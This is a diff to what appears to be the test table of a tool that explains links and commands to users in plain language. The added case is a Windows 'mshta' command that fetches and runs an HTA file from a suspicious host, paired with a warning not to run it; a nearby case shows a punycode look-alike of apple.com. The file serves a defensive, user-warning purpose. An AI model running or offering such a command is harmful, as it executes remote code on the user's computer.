@@ -328,6 +328,12 @@ APP = "https://accounts.google.com/o/oauth2/v2/auth?client_id=a1&scope=email&red
         "Open it only if you know and use this site.",
     ),
     (
+        "mshta https://kxqv.top/verify.hta",
+        "Goes to kxqv.top",
+        "Not just a link: a command that runs what this site sends, on your computer.",
+        "Do not run it, and do not paste it anywhere.",
+    ),
+    (
         "https://xn--80ak6aa92e.com/",
         "Goes to \u0430\u0440\u0440\u04cf\u0435.com (computers write: xn--80ak6aa92e.com), "
         "which looks like apple.com",
